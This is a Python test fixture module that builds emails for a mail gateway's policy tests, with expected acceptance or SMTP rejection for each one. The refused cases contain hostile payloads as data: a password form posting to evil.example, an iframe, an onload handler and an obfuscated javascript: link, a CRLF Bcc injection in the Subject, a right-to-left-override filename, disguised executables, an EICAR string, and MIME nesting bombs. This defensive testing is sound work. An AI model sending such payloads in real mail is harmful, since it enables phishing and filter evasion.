"""Mails built in code: every row of policy.md 2.2 and the known traps for mail parsers.

Each builder returns the message as bytes with CRLF line ends, as it goes
over the wire. ``CASES`` lists (name, builder, expected) where expected is
None for an accepted mail or (SMTP code, enhanced code, words of the rule).
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP
from typing import NamedTuple

from tests.corpus import misc, ooxml, pdfs, signed_pdfs
from tests.support.clamd import EICAR

DOMAIN = "hwk-musterstadt.example"
TO = f"verwaltung@{DOMAIN}"
FROM = "meister.mueller@example.org"
MB = 1024 * 1024

LETTER = (
    "Sehr geehrte Damen und Herren,\n\n"
    "hiermit beantrage ich die Eintragung meines Betriebs in die Handwerksrolle. "
    "Die Meisterprüfung habe ich im Frühjahr vor der Kammer in Musterstadt abgelegt, "
    "die Unterlagen reiche ich gern nach, falls noch etwas fehlt. Bitte teilen Sie mir "
    "mit, welche Gebühren anfallen und wann ich mit einer Entscheidung rechnen kann. "
    "Für Rückfragen erreichen Sie mich werktags ab 16 Uhr telefonisch.\n\n"
    "Mit freundlichen Grüßen\nMax Müller\nTischlerei Müller, Musterstadt\n"
)


class Expected(NamedTuple):
    code: int
    enhanced: str
    words: tuple[str, ...]  # all of them appear in the answer (lower case)


def message(
    *,
    text: str | None = LETTER,
    html: str | None = None,
    attachments: list[tuple[str, bytes, str]] | None = None,
    subject: str = "Antrag auf Eintragung",
    sender: str = f"Max Müller <{FROM}>",
    to: str = TO,
    headers: dict[str, str] | None = None,
) -> bytes:
    """An ordinary mail as a mail program writes it."""
    mail = EmailMessage(policy=SMTP)
    mail["From"] = sender
    mail["To"] = to
    mail["Subject"] = subject
    mail["Message-ID"] = f"<corpus.{abs(hash(subject))}@example.org>"
    for name, value in (headers or {}).items():
        mail[name] = value
    if text is not None:
        mail.set_content(text)
    if html is not None:
        if text is None:
            mail.set_content(html, subtype="html")
        else:
            mail.add_alternative(html, subtype="html")
    for name, data, ctype in attachments or []:
        maintype, subtype = ctype.split("/")
        mail.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return mail.as_bytes()


def raw(head: str, body: str) -> bytes:
    """A hand-written message: ``head`` header lines and ``body``, LF turned into CRLF."""
    text = f"{head.strip()}\n\n{body}"
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("latin-1")


def _b64(data: bytes) -> str:
    encoded = base64.b64encode(data).decode()
    return "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def _with_part(part_headers: str, part_body: str, *, text: str = "Anbei die Unterlagen.") -> bytes:
    return raw(
        f"From: {FROM}\nTo: {TO}\nSubject: Unterlagen\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="grenze"',
        f"--grenze\nContent-Type: text/plain; charset=utf-8\n\n{text}\n"
        f"--grenze\n{part_headers.strip()}\n\n{part_body}\n--grenze--\n",
    )


# --- accepted -------------------------------------------------------------------------


def plain_letter() -> bytes:
    return message()


def letter_with_pdf() -> bytes:
    return message(attachments=[("antrag.pdf", pdfs.clean(), "application/pdf")])


def letter_with_picture_and_docx() -> bytes:
    return message(
        attachments=[
            ("foto.jpg", misc.jpeg(), "image/jpeg"),
            ("lebenslauf.docx", ooxml.docx(), ooxml_docx_type()),
        ]
    )


def ooxml_docx_type() -> str:
    return "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def letter_with_link() -> bytes:
    return message(text=LETTER + "\nUnsere Website: https://www.tischlerei-mueller.example/\n")


def gmail_encoded_filename() -> bytes:
    """Gmail and Outlook: RFC 2047 words inside the quoted file name."""
    encoded = "=?UTF-8?B?" + base64.b64encode("Übersicht Prüfung.pdf".encode()).decode() + "?="
    return _with_part(
        f'Content-Type: application/pdf; name="{encoded}"\n'
        f'Content-Disposition: attachment; filename="{encoded}"\n'
        "Content-Transfer-Encoding: base64",
        _b64(pdfs.clean()),
    )


def latin1_labelled_windows_1252() -> bytes:
    """Labelled ISO-8859-1, carries Windows-1252 bytes (euro sign, typographic quotes)."""
    body = "Die Rechnung über 120 \x80 ist \x84bezahlt\x93.\n"
    return raw(
        f"From: {FROM}\nTo: {TO}\nSubject: Rechnung\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit",
        body,
    )


def signed_pdf() -> bytes:
    return message(attachments=[("antrag-signiert.pdf", signed_pdfs.qes(), "application/pdf")])


def safe_html() -> bytes:
    html = (
        "<html><head><style>p { color: #333 }</style></head><body>"
        "<p>Sehr geehrte Damen und Herren,</p><p>bitte rufen Sie mich an. "
        '<a href="https://www.tischlerei-mueller.example/">Unsere Website</a></p>'
        "<p>Mit freundlichen Gr&uuml;&szlig;en<br>Max M&uuml;ller</p></body></html>"
    )
    return message(text=None, html=html)


def crlf_in_subject() -> bytes:
    """A decoded Subject with CR/LF: must not become a header of our acknowledgement."""
    return raw(
        f"From: {FROM}\nTo: {TO}\n"
        "Subject: =?utf-8?q?Antrag=0D=0ABcc=3A_opfer=40example=2Ecom?=\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8",
        "Hallo.\n",
    )


def sized(total: int) -> bytes:
    """A mail of exactly ``total`` bytes: a letter padded with text lines and one large PDF."""
    pdf = pdfs.large_pdf(int(total * 0.6))

    def build(padding_lines: int, last: int) -> bytes:
        filler = ("Anlage " + "x" * 67 + "\n") * padding_lines + "y" * last + "\n"
        return message(text=LETTER + filler, attachments=[("scan.pdf", pdf, "application/pdf")])

    missing = total - len(build(0, 0))
    lines, rest = divmod(missing, 77)  # 75 characters and CRLF per line
    data = build(lines, max(0, rest - 2))
    gap = total - len(data)  # the epilogue after the last boundary takes the difference
    epilogue = (b"." * 74 + b"\r\n") * (gap // 76)
    return data + epilogue + b"." * (gap - len(epilogue))


# --- refused ---------------------------------------------------------------------------


def zip_renamed_pdf() -> bytes:
    return message(attachments=[("rechnung.pdf", ooxml.plain_zip(), "application/pdf")])


def zip_attachment() -> bytes:
    return message(attachments=[("unterlagen.zip", ooxml.plain_zip(), "application/zip")])


def zipped_mail() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("nachricht.eml", plain_letter())
    return message(
        text="Siehe Anhang.",
        attachments=[("nachricht.dat", buffer.getvalue(), "application/octet-stream")],
    )


def docm_renamed_docx() -> bytes:
    return message(attachments=[("bericht.docx", ooxml.docm_renamed(), ooxml_docx_type())])


def exe_attachment() -> bytes:
    return message(attachments=[("rechnung.pdf", misc.pe_executable(), "application/pdf")])


def virus_in_docx() -> bytes:
    """EICAR in the text of a Word document: only the virus scanner finds it."""
    data = ooxml.small_docx(EICAR.decode())
    return message(attachments=[("angebot.docx", data, ooxml_docx_type())])


def filename_disagreement() -> bytes:
    return _with_part(
        "Content-Type: application/pdf\n"
        "Content-Disposition: attachment; filename=\"rechnung.pdf\"; filename*=UTF-8''tool.exe\n"
        "Content-Transfer-Encoding: base64",
        _b64(pdfs.clean()),
    )


def rtl_override_name() -> bytes:
    return message(attachments=[("rechnung\u202efdp.exe", pdfs.clean(), "application/pdf")])


def html_onload() -> bytes:
    return message(html='<html><body onload="steal()"><p>Hallo</p></body></html>')


def html_javascript_link() -> bytes:
    return message(html='<p><a href="java&#x09;script:alert(1)">Rechnung ansehen</a></p>')


def html_iframe() -> bytes:
    return message(html='<p>Hallo</p><iframe src="https://evil.example/"></iframe>')


def html_form_elsewhere() -> bytes:
    return message(
        html='<form action="https://evil.example/login" method="post">'
        '<input name="passwort"></form>'
    )


def charset(label: str) -> Callable[[], bytes]:
    def build() -> bytes:
        return raw(
            f"From: {FROM}\nTo: {TO}\nSubject: Zeichensatz\nMIME-Version: 1.0\n"
            f"Content-Type: text/plain; charset={label}",
            "Hallo\n",
        )

    build.__name__ = f"charset_{label}"
    return build


def koi8_encoded_word() -> bytes:
    return raw(f"From: {FROM}\nTo: {TO}\nSubject: =?koi8-r?B?8NLJ18XU?=", "Hallo\n")


def broken_base64() -> bytes:
    return _with_part(
        'Content-Type: application/pdf\nContent-Disposition: attachment; filename="a.pdf"\n'
        "Content-Transfer-Encoding: base64",
        _b64(pdfs.clean())[:-3] + "!",
    )


def missing_close_boundary() -> bytes:
    return raw(
        f"From: {FROM}\nTo: {TO}\nSubject: Abgeschnitten\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="grenze"',
        "--grenze\nContent-Type: text/plain\n\nHallo\n",
    )


def nested(depth: int) -> bytes:
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(depth)
    )
    closing = "".join(f"--b{i}--\n" for i in reversed(range(depth)))
    head = f"From: {FROM}\nTo: {TO}\nSubject: Tief\nMIME-Version: 1.0\n"
    text = head + opening + "Content-Type: text/plain\n\nHallo\n" + closing
    return text.replace("\n", "\r\n").encode()


def many_parts(count: int) -> bytes:
    parts = "".join("--x\nContent-Type: text/plain\n\nx\n" for _ in range(count))
    return raw(
        f"From: {FROM}\nTo: {TO}\nSubject: Viele Teile\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="x"',
        parts + "--x--\n",
    )


def encoded_words(count: int) -> bytes:
    words = "\n ".join(["=?utf-8?q?Gr=C3=BC=C3=9Fe?="] * count)
    return raw(f"From: {FROM}\nTo: {TO}\nSubject: {words}", "Hallo\n")


def duplicate_from() -> bytes:
    return raw(f"From: {FROM}\nFrom: chef@{DOMAIN}\nTo: {TO}\nSubject: Zwei Absender", "Hallo\n")


def forwarded_with_program() -> bytes:
    inner = message(
        subject="Rechnung",
        attachments=[("rechnung.pdf", misc.pe_executable(), "application/pdf")],
    ).decode("latin-1")
    return raw(
        f"From: {FROM}\nTo: {TO}\nSubject: WG: Rechnung\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="aussen"',
        "--aussen\nContent-Type: text/plain\n\nZur Kenntnis.\n"
        "--aussen\nContent-Type: message/rfc822\n\n" + inner.replace("\r\n", "\n") + "\n"
        "--aussen--\n",
    )


def link_only(url: str, sender: str = f"Max Müller <{FROM}>") -> Callable[[], bytes]:
    def build() -> bytes:
        return message(text=f"Hallo,\n\nhier die Unterlagen: {url}\n\nGruß\nMax\n", sender=sender)

    return build


def wetransfer_notice() -> bytes:
    html = (
        "<p>max@example.org hat Ihnen 3 Dateien gesendet</p><p>12,4 MB insgesamt</p>"
        '<p><a href="https://we.tl/t-AbCdEf1234">Dateien herunterladen</a></p>'
    )
    return message(
        text=None,
        html=html,
        subject="Max hat Ihnen Dateien gesendet",
        sender="WeTransfer <noreply@wetransfer.com>",
    )


_MIME = (550, "5.6.0")
_SECURITY = (550, "5.7.1")
CASES: list[tuple[str, Callable[[], bytes], Expected | None]] = [
    ("plain letter", plain_letter, None),
    ("letter with pdf", letter_with_pdf, None),
    ("letter with picture and docx", letter_with_picture_and_docx, None),
    ("letter that merely contains a link", letter_with_link, None),
    ("gmail encoded-word filename", gmail_encoded_filename, None),
    ("iso-8859-1 labelled windows-1252", latin1_labelled_windows_1252, None),
    ("signed pdf", signed_pdf, None),
    ("html without active content", safe_html, None),
    ("crlf in decoded subject", crlf_in_subject, None),
    ("zip renamed pdf", zip_renamed_pdf, Expected(*_SECURITY, ("archive", "rechnung.pdf"))),
    ("zip attachment", zip_attachment, Expected(*_SECURITY, ("archive", "unterlagen.zip"))),
    ("zipped whole mail", zipped_mail, Expected(*_SECURITY, ("archive", "nachricht.dat"))),
    ("docm renamed docx", docm_renamed_docx, Expected(*_SECURITY, ("file policy", "macros"))),
    ("program renamed pdf", exe_attachment, Expected(*_SECURITY, ("file policy", "program"))),
    ("virus in docx", virus_in_docx, Expected(*_SECURITY, ("file policy", "malware"))),
    (
        "filename and filename* disagree",
        filename_disagreement,
        Expected(*_SECURITY, ("file policy", "two different file names")),
    ),
    (
        "right-to-left override in a name",
        rtl_override_name,
        Expected(*_SECURITY, ("file policy", "writing direction")),
    ),
    ("html onload", html_onload, Expected(*_SECURITY, ("active content", "event handler"))),
    (
        "html javascript link",
        html_javascript_link,
        Expected(*_SECURITY, ("active content", "javascript")),
    ),
    ("html iframe", html_iframe, Expected(*_SECURITY, ("active content", "frame"))),
    ("html form", html_form_elsewhere, Expected(*_SECURITY, ("active content", "form"))),
    ("charset koi8-r", charset("koi8-r"), Expected(*_MIME, ("character set", "koi8-r"))),
    ("charset x-unknown", charset("x-unknown"), Expected(*_MIME, ("character set", "x-unknown"))),
    ("koi8-r encoded word", koi8_encoded_word, Expected(*_MIME, ("character set", "koi8-r"))),
    ("broken base64", broken_base64, Expected(*_MIME, ("mime", "base64"))),
    ("missing close boundary", missing_close_boundary, Expected(*_MIME, ("mime", "boundar"))),
    ("1,000-level nesting", lambda: nested(1000), Expected(*_MIME, ("mime", "nested"))),
    ("11-level nesting", lambda: nested(11), Expected(*_MIME, ("mime", "nested"))),
    ("50,000 parts", lambda: many_parts(50_000), Expected(*_MIME, ("mime", "parts"))),
    ("101 parts", lambda: many_parts(101), Expected(*_MIME, ("mime", "parts"))),
    (
        "8,000 encoded words",
        lambda: encoded_words(8000),
        Expected(*_MIME, ("mime", "encoded words")),
    ),
    ("duplicate from", duplicate_from, Expected(*_MIME, ("mime", "from"))),
    (
        "forwarded mail with a program",
        forwarded_with_program,
        Expected(*_SECURITY, ("file policy", "program")),
    ),
    (
        "link only dropbox",
        link_only("https://www.dropbox.com/s/a1b2c3/unterlagen.pdf?dl=0"),
        Expected(*_SECURITY, ("links are not fetched", "dropbox.com")),
    ),
    (
        "link only sharepoint",
        link_only("https://tischlerei-my.sharepoint.com/:f:/g/personal/max/EaBc?e=x1"),
        Expected(*_SECURITY, ("links are not fetched", "sharepoint.com")),
    ),
    (
        "wetransfer notice",
        wetransfer_notice,
        Expected(*_SECURITY, ("links are not fetched", "we.tl")),
    ),
]
